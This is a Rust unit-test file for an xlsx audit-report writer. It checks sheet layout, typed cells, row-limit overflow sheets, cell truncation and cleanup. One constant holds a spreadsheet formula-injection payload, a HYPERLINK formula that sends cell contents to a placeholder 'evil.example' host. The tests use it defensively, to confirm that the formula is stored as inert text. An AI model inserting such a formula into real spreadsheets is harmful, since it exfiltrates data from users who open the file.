//! Unit tests of [`super`] (xlsx.rs), kept beside it to keep that file readable.
use super::*;

/// The column of `All images` that holds `name`.
fn col(name: &str) -> u32 {
    IMAGES_COLUMNS.iter().position(|c| *c == name).expect("a column") as u32
}
use crate::api::model::{ImageInfo, Mezzanine};
use crate::report::changes::classify;
use crate::report::summary::summarize;
use crate::report::testing::{failed, found};
use crate::report::write::write_images_csv;
use crate::run::outcome::Outcome;
use crate::rundir::files::room_advice;
use calamine::{open_workbook, Data, Reader, Xlsx};

const EVIL: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

/// Columns that hold numbers.
const NUMBERS: &[&str] = &["cate_id", "before_cate_id", "file_size", "width", "height", "attempts", "http_status"];

fn records() -> Vec<ImageRecord> {
    let info = ImageInfo {
        title: Some(EVIL.into()),
        audit_status: Some("Blocked".into()),
        status: Some("Normal".into()),
        cate_id: Some(1000003),
        cate_name: Some("娱乐 Entertainment".into()),
        creation_time: Some("2024-01-02T03:04:05Z".into()),
        url: Some("https://cdn.example/a.png?auth_key=1-0-0-x".into()),
        description: Some("+1 @me -x\ttab".into()),
        mezzanine: Some(Mezzanine {
            file_size: Some("8932".into()),
            width: Some(200),
            height: Some(100),
            ..Default::default()
        }),
        ..Default::default()
    };
    vec![
        Outcome::found("a1".into(), info, 2, Some("REQ".into())).record(),
        found("b2", Some("Normal"), Some("Normal"), Some((7, "News"))),
        Outcome::missing("c3".into(), 1, None).record(),
        failed("d4", "InternalError"),
    ]
}

/// Writes a workbook of `records` (and `changes`) in `dir` with `limit`
/// rows a sheet, and opens it.
fn written(
    dir: &Path,
    limit: u32,
    records: &[ImageRecord],
    changes: &[Change],
    compared: bool,
) -> Xlsx<io::BufReader<std::fs::File>> {
    let mut book = AuditWorkbook::with_limit(dir, limit).unwrap();
    for r in records {
        book.add_record(r).unwrap();
    }
    for c in changes {
        book.add_change(c).unwrap();
    }
    let mut summary = summarize(records.len() as u64, 0, 0, records);
    summary.ledger.unique_ids = records.len() as u64;
    if compared {
        summary.changes = Some(Default::default());
    }
    let path = dir.join("audit.xlsx");
    let file = std::fs::File::create(&path).unwrap();
    book.finish(&summary, &[], file).unwrap();
    open_workbook(&path).unwrap()
}

fn header(book: &mut Xlsx<io::BufReader<std::fs::File>>, sheet: &str) -> Vec<String> {
    let range = book.worksheet_range(sheet).unwrap();
    range.rows().next().unwrap().iter().map(|c| c.to_string()).collect()
}

#[test]
fn four_sheets_headers_and_typed_cells_with_no_formula() {
    let dir = tempfile::tempdir().unwrap();
    let recs = records();
    let before = found("a1", Some("Normal"), Some("Normal"), Some((1000001, "News")));
    let changes = classify(&before, &recs[0]);
    assert_eq!(changes.len(), 2, "newly blocked, category changed");
    let mut book = written(dir.path(), EXCEL_MAX_ROWS, &recs, &changes, true);

    assert_eq!(book.sheet_names(), [SUMMARY_SHEET, BLOCKED_SHEET, CHANGES_SHEET, IMAGES_SHEET]);
    assert_eq!(header(&mut book, SUMMARY_SHEET), SUMMARY_COLUMNS);
    assert_eq!(header(&mut book, BLOCKED_SHEET), BLOCKED_COLUMNS);
    assert_eq!(header(&mut book, CHANGES_SHEET), CHANGES_COLUMNS);
    assert_eq!(header(&mut book, IMAGES_SHEET), IMAGES_COLUMNS);
    for sheet in book.sheet_names() {
        let formulas = book.worksheet_formula(&sheet).unwrap();
        assert!(formulas.cells().all(|(_, _, f)| f.is_empty()), "a formula on {sheet}");
    }

    // All images: the rows of images.csv, in order, each cell typed.
    let images = book.worksheet_range(IMAGES_SHEET).unwrap();
    assert_eq!(images.height(), 1 + recs.len());
    let mut csv_text = Vec::new();
    write_images_csv(&mut csv_text, &recs).unwrap();
    let mut csv_rows = csv::Reader::from_reader(&csv_text[..]);
    for (row, want) in images.rows().skip(1).zip(csv_rows.records()) {
        let want = want.unwrap();
        for ((col, cell), want) in IMAGES_COLUMNS.iter().zip(row).zip(want.iter()) {
            match cell {
                Data::Empty => assert_eq!(want, "", "{col}"),
                Data::String(s) => {
                    assert!(!NUMBERS.contains(col), "{col} is text: {s:?}");
                    assert_eq!(s, want, "{col}");
                }
                Data::Float(n) => {
                    assert!(NUMBERS.contains(col), "{col} is a number: {n}");
                    assert_eq!(n.to_string(), want, "{col}");
                }
                other => panic!("{col}: {other:?}"),
            }
        }
    }
    assert_eq!(images.get_value((1, col("title"))), Some(&Data::String(EVIL.into())), "the title, as given, a string");
    assert_eq!(images.get_value((1, col("description"))), Some(&Data::String("+1 @me -x\ttab".into())), "no ' added");

    let blocked = book.worksheet_range(BLOCKED_SHEET).unwrap();
    assert_eq!(blocked.height(), 2, "one blocked image");
    let row: Vec<&Data> = blocked.rows().nth(1).unwrap().iter().collect();
    assert_eq!(row[0], &Data::String("a1".into()));
    assert_eq!(row[1], &Data::String(EVIL.into()));
    assert_eq!(row[2], &Data::Float(1000003.0));
    assert_eq!(row[3], &Data::String("娱乐 Entertainment".into()));
    assert_eq!(row[4], &Data::String("2024-01-02T03:04:05Z".into()));
    assert_eq!(row[5], &Data::String("https://cdn.example/a.png?auth_key=1-0-0-x".into()));

    let ch = book.worksheet_range(CHANGES_SHEET).unwrap();
    let kinds: Vec<String> = ch.rows().skip(1).map(|r| r[1].to_string()).collect();
    assert_eq!(kinds, ["newly_blocked", "category_changed"]);
    assert_eq!(ch.get_value((1, 5)), Some(&Data::Float(1000003.0)));
    assert_eq!(ch.get_value((1, 8)), Some(&Data::Float(1000001.0)));

    let summary = book.worksheet_range(SUMMARY_SHEET).unwrap();
    let find =
        |section: &str, item: &str| summary.rows().find(|r| r[0] == *section && r[1] == *item).map(|r| r.to_vec());
    assert_eq!(find("totals", "found").unwrap()[3..], [Data::Float(2.0), Data::Float(1.0)]);
    assert_eq!(find("ledger", "unique_ids").unwrap()[3], Data::Float(4.0));
    assert_eq!(find("verdict", "Blocked").unwrap()[3..], [Data::Float(1.0), Data::Float(1.0)]);
    assert_eq!(find("audit_status", "Blocked").unwrap()[3], Data::Float(1.0));
    assert_eq!(find("audit_status_coverage", "share").unwrap()[3], Data::Float(1.0));
    assert_eq!(find("verdict_coverage", "share").unwrap()[3], Data::Float(1.0));
    assert_eq!(find("changes", "newly_blocked").unwrap()[3], Data::Float(0.0), "the summary's counts");
    assert_eq!(find("sheets", IMAGES_SHEET).unwrap()[3], Data::Float(4.0));
    let category = summary.rows().find(|r| r[0] == "category" && r[1] == Data::Float(7.0));
    assert_eq!(category.unwrap()[2], Data::String("News".into()), "cate_id a number, the name beside it");
}

#[test]
fn rows_past_the_limit_continue_on_numbered_sheets() {
    let dir = tempfile::tempdir().unwrap();
    let recs: Vec<ImageRecord> =
        (0..5).map(|i| found(&format!("id{i}"), Some("Blocked"), Some("Normal"), None)).collect();
    // Three rows a sheet: the header and two images.
    let mut book = written(dir.path(), 3, &recs, &[], false);
    assert_eq!(
        book.sheet_names(),
        [
            "Summary",
            "Blocked",
            "Blocked (2)",
            "Blocked (3)",
            "Changes",
            "All images",
            "All images (2)",
            "All images (3)"
        ]
    );
    let mut ids = Vec::new();
    for sheet in ["All images", "All images (2)", "All images (3)"] {
        assert_eq!(header(&mut book, sheet), IMAGES_COLUMNS);
        let range = book.worksheet_range(sheet).unwrap();
        ids.extend(range.rows().skip(1).map(|r| r[0].to_string()));
    }
    assert_eq!(ids, ["id0", "id1", "id2", "id3", "id4"], "every image once, in order");
    let summary = book.worksheet_range(SUMMARY_SHEET).unwrap();
    let notes: Vec<String> = summary
        .rows()
        .filter(|r| r[0] == "sheets" && r[2].to_string().contains("continues on"))
        .map(|r| r[2].to_string())
        .collect();
    assert_eq!(notes.len(), 2, "{notes:?}");
    assert!(notes[1].starts_with("All images has 5 rows") && notes[1].ends_with("All images (2), All images (3)"));
    let changes = book.worksheet_range(CHANGES_SHEET).unwrap();
    assert!(changes.get_value((1, 0)).unwrap().to_string().contains("not compared"), "a note, not a blank sheet");
}

#[test]
fn a_cell_past_excels_limit_in_utf16_units_is_cut_and_marked() {
    // 20,000 characters, 40,000 UTF-16 units: Excel counts the units.
    let emoji = "😀".repeat(20_000);
    let cut = cut_cell(&emoji).expect("cut");
    assert!(cut.encode_utf16().count() <= EXCEL_MAX_CELL);
    assert!(cut.starts_with("😀😀") && cut.ends_with(&format!("{CUT_MARKER}{}]", emoji.len())));
    assert_eq!(cut_cell(&"a".repeat(EXCEL_MAX_CELL)), None, "exactly at the limit");
    let dir = tempfile::tempdir().unwrap();
    let info = ImageInfo { title: Some(emoji), ..Default::default() };
    let rec = Outcome::found("e".into(), info, 1, None).record();
    let mut book = written(dir.path(), EXCEL_MAX_ROWS, &[rec], &[], false);
    let images = book.worksheet_range(IMAGES_SHEET).unwrap();
    assert_eq!(images.get_value((1, col("title"))), Some(&Data::String(cut)));
}

#[test]
fn an_id_a_float_would_round_stays_exact_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let ids = [(1i64 << 53) + 1, i64::MIN];
    let recs: Vec<ImageRecord> =
        ids.iter().enumerate().map(|(i, id)| found(&format!("x{i}"), None, None, Some((*id, "Huge")))).collect();
    let mut book = written(dir.path(), EXCEL_MAX_ROWS, &recs, &[], false);
    let images = book.worksheet_range(IMAGES_SHEET).unwrap();
    for (row, id) in ids.iter().enumerate() {
        assert_eq!(images.get_value((row as u32 + 1, col("cate_id"))), Some(&Data::String(id.to_string())));
    }
    assert_eq!(images.get_value((1, col("attempts"))), Some(&Data::Float(1.0)), "attempts: a number");
}

#[test]
fn a_panic_in_the_writer_is_an_error_of_the_io_kind_it_names() {
    let e = panic_error(&String::from(
        "Couldn't write to xml file: Os { code: 28, kind: StorageFull, message: \"No space left on device\" }",
    ));
    assert_eq!(e.kind(), io::ErrorKind::StorageFull);
    assert!(room_advice(&e).is_some(), "the disk-full advice applies");
    assert_eq!(panic_error(&"something else").kind(), io::ErrorKind::Other);
    let e = guarded::<()>(|| panic!("boom")).unwrap_err();
    assert!(e.to_string().contains("boom"), "{e}");
}

#[test]
fn no_temporary_file_is_left_in_the_run_directory() {
    let dir = tempfile::tempdir().unwrap();
    drop(written(dir.path(), EXCEL_MAX_ROWS, &records(), &[], false));
    let names: Vec<_> = std::fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert_eq!(names, ["audit.xlsx"]);
}
